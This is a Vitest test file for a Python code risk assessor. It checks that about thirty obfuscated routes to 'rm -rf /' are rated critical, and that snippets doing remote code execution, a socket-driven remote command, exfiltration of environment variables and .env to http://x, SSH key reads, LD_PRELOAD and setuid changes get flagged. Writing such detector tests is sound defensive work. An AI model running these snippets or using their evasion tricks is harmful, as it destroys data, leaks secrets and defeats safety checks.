import { describe, expect, it } from "vitest";
import { assess } from "../../risk/assess.js";
import { rankOf } from "../../rules/levels.js";

const DESTROY = "rm -rf /";

describe("Python is read", () => {
  it.each([
    ["a renamed import", `import os as o\no.system("${DESTROY}")`],
    ["a renamed member", `from os import system as s\ns("${DESTROY}")`],
    ["a star import", `from os import *\nsystem("${DESTROY}")`],
    ["an import inside of a function", `def f():\n    import os\n    os.system("${DESTROY}")`],
    ["a module that an earlier cell imported", `os.system("${DESTROY}")`],
    ["an alias of a function", `import os\ns = os.system\ns("${DESTROY}")`],
    ["an alias that is given later", `def f():\n    s("${DESTROY}")\nimport os\ns = os.system\nf()`],
    ["a command that depends on itself", `import os\nx = "${DESTROY}"\nprint(x)\nx = os.system(x)`],
    ["a command in pieces", `import os\nc = "rm "\nc += "-rf "\nc += "/"\nos.system(c)`],
    ["a list of words", `import subprocess\nsubprocess.run("${DESTROY}".split())`],
    ["a list that grows", `import subprocess\nc = ["rm", "-rf"]\nc += ["/"]\nsubprocess.run(c)`],
    ["words that replace the process", `import os\nos.execl("/bin/rm", "rm", "-rf", "/")`],
    ["a lambda", `import os\nf = lambda c: os.system(c)\nf("${DESTROY}")`],
    ["a function handed to a function", `(lambda f, a: f(a))(__import__("os").system, "${DESTROY}")`],
    ["map", `import os\nlist(map(os.system, ["${DESTROY}"]))`],
    ["a thread", `import os, threading\nthreading.Thread(target=os.system, args=("${DESTROY}",)).start()`],
    ["a dictionary of functions", `import os\n{"run": os.system}["run"]("${DESTROY}")`],
    [
      "what pickle would call",
      `import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ("${DESTROY}",))`,
    ],
    [
      "an object's field",
      `import os\nclass A:\n    def __init__(self, c): self.c = c\n    def go(self): os.system(self.c)\nA("${DESTROY}").go()`,
    ],
    ["a default value", `def f(a=__import__("os").system("${DESTROY}")): pass`],
    ["an annotation", `import os\nx: os.system("${DESTROY}") = 1`],
    ["one branch of two", `import os, sys\nos.system(sys.argv[1] if sys.argv else "${DESTROY}")`],
    ["a module's dictionary", `import os\nos.__dict__["system"]("${DESTROY}")`],
    ["the table of modules", `import sys\nsys.modules["os"].system("${DESTROY}")`],
    ["a name from a format", `import os\ngetattr(os, "sys%s" % "tem")("${DESTROY}")`],
    [
      "a name from a function",
      `import os\ndef d(s): return s[::-1]\ngetattr(os, d("metsys"))(d("/ fr- mr"))`,
    ],
    ["code in code", `exec("imp" + "ort os\\nos.system('${DESTROY}')")`],
    [
      "a builtin that a dead branch replaces",
      `if 0:\n    exec = print\nexec("import os; os.system('${DESTROY}')")`,
    ],
    ["letters that Python takes for others", `import os\n\uff4f\uff53.system("${DESTROY}")`],
    ["a line that only Python ends", `# harmless\rimport os\ros.system("${DESTROY}")`],
  ])("through %s", async (_, code) => {
    const { level, parsed } = await assess(code, "python");
    expect({ level, parsed }).toEqual({ level: "critical", parsed: true });
  });

  it.each([
    ["hidden-code", `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))`],
    ["hidden-code", `exec("".join(chr(ord(c) - 1) for c in "qsjou)2*"))`],
    ["hidden-code", String.raw`exec(b"\x70\x72\x69\x6e\x74\x28\x29")`],
    ["hidden-name", `__import__("o" + "s").getcwd()`],
    ["hidden-name", `import os, sys\ngetattr(os, sys.argv[1])()`],
    ["remote-code", `import requests\nexec(requests.get("http://x").text)`],
    [
      "remote-command",
      `import socket, subprocess\nc = socket.create_connection(("x", 1))\nsubprocess.getoutput(c.recv(99).decode())`,
    ],
    [
      "exfiltration",
      `import os, requests\nd = {}\nfor k, v in os.environ.items():\n    d[k] = v\nrequests.post("http://x", json=d)`,
    ],
    ["exfiltration", `import requests\nrequests.post("http://x", data=open(".env").read())`],
    ["secret-file", `from pathlib import Path\nprint((Path.home() / ".ssh" / "id_rsa").read_text())`],
    ["class-climbing", `().__class__.__mro__[1].__subclasses__()`],
    ["function-internals", `(lambda: 0).__globals__`],
    ["endless-spawning", `import threading\nwhile True:\n    threading.Thread(target=print).start()`],
    ["endless-growth", `a = "x"\nwhile True:\n    a += a`],
    ["huge-allocation", `x = [0] * 10**10`],
    ["huge-allocation", `9**9**9`],
    ["loader-variable", `import os\nos.environ["LD_PRELOAD"] = "x.so"`],
    ["source-encoding", `# -*- coding: utf-7 -*-\nprint(1)`],
    ["privilege", `import os\nos.chmod("x", 0o4755)`],
  ])("and %s is found", async (rule, code) => {
    const { findings } = await assess(code, "python");
    const severe = findings.filter(({ level }) => rankOf(level) >= rankOf("high"));
    expect(severe.map((finding) => finding.rule)).toContain(rule);
  });

  it.each([
    ["safe", `print(40 + 2)`],
    [
      "safe",
      `import re\nEVAL = re.compile("x")\ndef exec_time(n): return n\nprint(exec_time(1), "os.system('${DESTROY}')")`,
    ],
    ["safe", `s = "".join(chr(65 + i) for i in range(26))\nprint(s[::-1])`],
    ["safe", `while True:\n    if input() == "q":\n        break`],
    ["low", `import os\nprint(os.path.exists("/etc/shadow"))`],
    ["low", `with open("notes.txt", "w") as f:\n    f.write("${DESTROY}")`],
    ["low", `import not_known_here`],
    ["medium", `import requests\nprint(requests.get("http://x", headers={"a": "b"}).status_code)`],
    ["medium", `import subprocess\nsubprocess.run(["git", "status"])`],
    ["medium", `class P: pass\nprint(P.__subclasses__())`],
    ["medium", `import os, subprocess\nsubprocess.run(["make"], env=dict(os.environ, A="1"))`],
    ["medium", `print(eval(input()))`],
  ])("and what is %s stays so", async (level, code) => {
    expect((await assess(code, "python")).level).toBe(level);
  });
});
